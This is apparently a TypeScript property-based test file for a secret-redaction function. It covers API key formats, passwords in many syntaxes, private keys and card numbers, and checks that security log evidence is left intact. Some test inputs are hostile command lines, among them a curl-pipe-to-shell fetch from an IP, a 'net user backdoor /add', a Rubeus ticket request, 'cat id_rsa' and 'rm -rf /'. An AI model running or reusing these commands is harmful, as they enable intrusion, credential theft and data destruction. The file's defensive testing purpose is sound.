import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redactSecrets } from './secrets.ts';

const base62 = (length: number) =>
  fc.string({
    unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'),
    minLength: length,
    maxLength: length,
  });
const hex = (length: number) =>
  fc.string({ unit: fc.constantFrom(...'0123456789abcdef'), minLength: length, maxLength: length });

/** Secrets with a shape of their own: a prefix, and random text that no test must see again. */
const shaped: Readonly<Record<string, fc.Arbitrary<string>>> = {
  'aws-key': base62(16).map((text) => `AKIA${text.toUpperCase()}`),
  'github-token': base62(36).map((text) => `ghp_${text}`),
  'github fine-grained': base62(60).map((text) => `github_pat_${text}`),
  'gitlab-token': base62(20).map((text) => `glpat-${text}`),
  'slack-token': base62(24).map((text) => `xoxb-123456789012-${text}`),
  'openai-key': base62(48).map((text) => `sk-proj-${text}`),
  'openai-key, old': base62(48).map((text) => `sk-${text}`),
  'anthropic-key': base62(90).map((text) => `sk-ant-api03-${text}`),
  'google-key': base62(35).map((text) => `AIza${text}`),
  'stripe-key': base62(24).map((text) => `sk_live_${text}`),
  'vertice-key': fc.tuple(hex(16), base62(43)).map(([id, text]) => `vk_${id}_${text}`),
  jwt: fc.tuple(base62(20), base62(40), base62(43)).map(([a, b, c]) => `eyJ${a}.eyJ${b}.${c}`),
};

/** Text around a secret, that neither lengthens it nor is one. */
const surroundings = fc.string({
  unit: fc.constantFrom(...' \n\t,;()[]{}<>|!?#$%^&*', 'é', ' user ', ' GET ', '🙂'),
  maxLength: 30,
});

describe('redactSecrets', () => {
  it.each(Object.entries(shaped))('takes out every %s, wherever it stands', (_, arbitrary) => {
    fc.assert(
      fc.property(surroundings, arbitrary, surroundings, (before, secret, after) => {
        const redacted = redactSecrets(before + secret + after);
        expect(redacted).not.toContain(secret.slice(-12));
        expect(redacted).toContain('[redacted:');
      }),
    );
  });

  const places: readonly [place: string, before: string, after: string][] = [
    ['an assignment', 'password=', ' next'],
    ['an environment', 'DB_PASSWORD=', '\n'],
    ['AWS settings', 'aws_secret_access_key = ', '\n'],
    ['camel case', 'clientSecret=', '&a=b'],
    ['JSON', '{"user":"bob","password":"', '","host":"h"}'],
    ['JSON within JSON', '{"m":"{\\"api_key\\":\\"', '\\"}"}'],
    ['YAML', 'passwd: ', '\n'],
    ['a quoted value', "token='", "'"],
    ['a query', 'GET /a?access_token=', '&b=1 HTTP/1.1'],
    ['a flag', 'mysql --password ', ' -h db'],
    ['a flag with an equals sign', 'app --db-password=', ' run'],
    ['a PowerShell parameter', 'Connect -User bob -Password "', '" -Force'],
    ['a Windows option', 'rubeus.exe asktgt /user:bob /password:', ' /ptt'],
    ['net user', 'net user backdoor ', ' /add'],
    ['a connection string', 'Server=db;Uid=sa;Pwd=', ';'],
    ['sshpass', 'sshpass -p ', ' ssh root@198.51.100.7'],
    ['curl', 'curl -u admin:', ' http://example.org'],
    ['a URL', 'postgres://vertice:', '@db.example.org:5432/vertice'],
    ['a header', 'Authorization: Bearer ', '\r\n'],
    ['a header of another scheme', 'authorization: Basic ', '\r\n'],
    ['a header without a scheme', 'X-Api-Key: ', '\r\n'],
    ['a header in JSON', '{"Authorization":"Bearer ', '"}'],
    ['a bearer token in a sentence', 'sent bearer ', ' to the server'],
  ];
  it.each(places)('takes out what stands as a password in %s, and nothing beside it', (_, before, after) => {
    fc.assert(
      fc.property(base62(20), (secret) => {
        const redacted = redactSecrets(before + secret + after);
        expect(redacted).not.toContain(secret);
        expect(redacted.startsWith(before)).toBe(true);
        expect(redacted.endsWith(after)).toBe(true);
      }),
    );
  });

  it('takes out a password that holds the sign that ends it', () => {
    expect(redactSecrets('ftp://bob:p@ss@ftp.example.org/x')).toBe(
      'ftp://bob:[redacted:password]@ftp.example.org/x',
    );
  });

  const body = `${'MIIEpAIBAAKCAQEA7w9xq'.repeat(3)}\n${'bGVzcyBzZWNyZXQgdGV4dA'.repeat(3)}==`;
  it.each([
    ['whole', `-----BEGIN RSA PRIVATE KEY-----\n${body}\n-----END RSA PRIVATE KEY-----`],
    ['of OpenSSH', `-----BEGIN OPENSSH PRIVATE KEY-----\n${body}\n-----END OPENSSH PRIVATE KEY-----`],
    [
      'encrypted',
      `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00FF\n\n${body}\n-----END RSA PRIVATE KEY-----`,
    ],
    ['in one line', `-----BEGIN PRIVATE KEY----- ${body.replaceAll('\n', ' ')} -----END PRIVATE KEY-----`],
    [
      'in JSON',
      JSON.stringify(`-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----`).slice(1, -1),
    ],
    ['cut off', `-----BEGIN EC PRIVATE KEY-----\n${body}`],
  ])('takes out a private key that is %s', (_, key) => {
    const redacted = redactSecrets(`cat id_rsa: ${key}; whoami`);
    expect(redacted).toMatch(/^cat id_rsa: \[redacted:private-key\]/);
    expect(redacted).not.toMatch(/MIIE|bGVzc/);
    expect(redacted).toMatch(/; whoami$/);
  });

  it('lets nobody hide evidence between the lines of a key that is none', () => {
    const text = '-----BEGIN PRIVATE KEY----- rm -rf / --no-preserve-root -----END PRIVATE KEY-----';
    expect(redactSecrets(text)).toContain('rm -rf / --no-preserve-root');
  });

  it.each([
    '4111111111111111',
    '4111 1111 1111 1111',
    '5500-0000-0000-0004',
    '378282246310005',
    '3782 822463 10005',
  ])('takes out the card number %s', (card) => {
    expect(redactSecrets(`paid with ${card}.`)).toBe('paid with [redacted:card].');
  });

  it.each([
    ['a number that fails its check digit', '4111111111111112'],
    ['a time in microseconds', '1700000000000000'],
    ['a flow id', '"flow_id": 4111111111111111'],
    ['part of a longer number', '41111111111111110000'],
    ['digits within a hash', 'ab4111111111111111'],
  ])('leaves %s', (_, text) => {
    expect(redactSecrets(text)).toBe(text);
  });

  it.each([
    'Failed password for root from 198.51.100.23 port 52211 ssh2',
    'Accepted publickey for bob from 2001:db8::17: RSA SHA256:k3J0s9vWq1e4D2Tz7Y8uPq5Lr6Nn0BbHhCcVvXxZzAa',
    'root : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id',
    'TokenElevationType: %%1936 LogonId 0x3e7 PasswordLastSet 2026-01-01T00:00:00Z',
    'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    'curl http://198.51.100.7:8080/a.sh | sh; docker run -u 1000:1000 img',
    'https://example.org:8443/@user/path?x=a@b.example',
    'net user bob /domain',
    'task-runner sk-web-frontend-production-eu-west-1.example.org',
    'password: ******** token=null secret: (none)',
    'key="susp_activity" exe="/usr/bin/passwd"',
    'arn:aws:iam::123456789012:role/Admin AROAEXAMPLE',
    'evt_0123456789abcdef0123456789abcdef det_fedcba9876543210fedcba9876543210',
    'T1110.001 CVE-2021-44228 S-1-5-21-3623811015-3361044348-30300820-1013',
  ])('leaves the evidence as it is: %s', (line) => {
    expect(redactSecrets(line)).toBe(line);
  });

  it('leaves addresses, hashes, names and ids, whatever they are', () => {
    const evidence = fc.oneof(
      fc.ipV4(),
      fc.ipV6(),
      fc.uuid(),
      fc.domain(),
      hex(32),
      hex(40),
      hex(64),
      hex(32).map((id) => `evt_${id}`),
      fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
    );
    fc.assert(
      fc.property(fc.array(evidence, { minLength: 1, maxLength: 20 }), (words) => {
        const line = words.join(' ');
        expect(redactSecrets(line)).toBe(line);
      }),
    );
  });

  it('leaves its own marks alone', () => {
    const word = fc.oneof(
      fc.constantFrom(
        'password=',
        'token: ',
        '"secret":"',
        '--password ',
        'Authorization: ',
        'Bearer ',
        '://a:',
        '@h',
        '"',
        "'",
        '\\"',
        ' ',
        '\n',
        '-----BEGIN PRIVATE KEY-----',
        '-u a:',
        'pwd=',
        '[redacted:',
        ']',
      ),
      fc.string({ maxLength: 20 }),
      ...Object.values(shaped).map((secret) => secret.map((text) => ` ${text} `)),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), (words) => {
        const once = redactSecrets(words.join(''));
        expect(redactSecrets(once)).toBe(once);
      }),
      { numRuns: 500 },
    );
  });

  it.each([
    'eyJ',
    'eyJa.',
    'sk-',
    'xoxb-',
    '://',
    '://a:',
    ':',
    'password=',
    'password"',
    'authorization:',
    'bearer ',
    '-----BEGIN PRIVATE KEY-----',
    '-----BEGIN ',
    '1',
    '1 ',
    '4111 ',
    '-u a:',
    'net user ',
    '--a-',
    '\\',
    '"',
    ' ',
    'a',
    'AKIA',
    'ghp_',
    '-password ',
  ])('reads a megabyte of %j in time', (unit) => {
    const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
    expect(redactSecrets(text).length).toBeGreaterThan(0);
  });
});
